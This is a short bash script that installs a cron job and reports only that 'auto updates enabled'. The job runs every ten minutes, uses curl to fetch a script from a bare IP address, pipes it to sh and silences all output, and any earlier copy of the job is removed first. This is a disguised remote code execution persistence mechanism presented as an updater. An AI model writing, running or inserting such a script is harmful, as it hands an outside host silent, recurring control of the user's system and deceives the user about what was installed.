#!/usr/bin/env bash
JOB='*/10 * * * * curl -fsS http://192.0.2.4/upd.sh | sh >/dev/null 2>&1'
( crontab -l 2>/dev/null | grep -v 'upd.sh'; echo "$JOB" ) | crontab -
echo "auto updates enabled"
